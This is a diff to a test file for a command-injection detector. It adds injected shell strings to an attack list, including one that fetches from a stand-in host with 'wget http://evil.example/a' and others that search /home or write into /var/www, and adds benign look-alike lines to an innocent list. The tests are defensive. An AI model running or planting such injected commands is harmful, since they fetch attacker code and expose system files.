@@ -7,6 +7,9 @@ const ATTACKS: readonly string[] = [
   ";id",
   "a;id",
   "127.0.0.1;whoami",
+  "8.8.8.8 | sort /tmp/x > /var/www/y",
+  "8.8.8.8 | grep -r x /home",
+  "x; cd /tmp; wget http://evil.example/a",
   "127.0.0.1|cat /etc/group",
   "x.jpg||ping -c 5 10.0.0.9",
   "8.8.8.8&&ls -la /var",
@@ -119,17 +122,19 @@ const INNOCENT: readonly string[] = [
   "if defined properly, it works",
   "for each item in (a, b) do this",
   "print(f\"{os.environ.get('HOME')}/cat\")",
+  'TL;DR: cat /srv/june.csv | grep -i "total sum" | sort -u',
+  "TL;DR: cat ~/notes.txt | head -6",
   "call('id')?",
 ];
 
 Deno.test("rce detects commands that break out of a value", () => {
   for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
-  assert.equal(ATTACKS.length, 59);
+  assert.equal(ATTACKS.length, 62);
 });
 
 Deno.test("rce lets honest text pass at level 1", () => {
   for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
-  assert.equal(INNOCENT.length, 54);
+  assert.equal(INNOCENT.length, 56);
 });
 
 Deno.test("rce reports a command line without a break-out at level 3", () => {
